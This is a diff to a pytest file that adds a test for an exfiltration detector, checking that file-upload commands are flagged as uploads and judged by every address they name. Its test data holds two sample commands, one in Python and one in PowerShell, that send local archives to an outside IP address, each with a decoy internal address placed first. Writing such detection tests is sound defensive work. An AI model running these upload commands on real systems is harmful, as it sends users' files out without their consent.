@@ -275,6 +275,23 @@ def test_interpreter_http_clients_sending_a_body_are_uploads(cmd: str) -> None:
     assert "/tmp/a.tgz" in signal.sent_paths
 
 
+@pytest.mark.parametrize(
+    "cmd",
+    [
+        'python3 -c \'h="http://10.0.0.9/health"; import requests; '
+        'requests.post("https://203.0.113.5/u", data=open("/tmp/a.tgz", "rb"))\'',
+        'powershell -c "Invoke-WebRequest -Proxy http://10.0.0.9:3128 -Method Put '
+        '-InFile C:\\Temp\\a.zip -Uri https://203.0.113.5/u"',
+    ],
+)
+def test_a_script_upload_is_judged_by_every_address_it_names(cmd: str) -> None:
+    # A decoy internal URL, or PowerShell's -Proxy, written before the real one.
+    found = detector.signals(launch(cmd))
+    assert {s.kind for s in found} == {SignalKind.UPLOAD}
+    ips = [s.destination.ip for s in found if s.destination is not None]
+    assert ips == ["10.0.0.9", "203.0.113.5"]
+
+
 def test_git_archive_is_archiving() -> None:
     assert kinds("git archive --format=tar.gz -o /tmp/src.tgz HEAD") == [
         ("archive", "git", "/tmp/src.tgz")
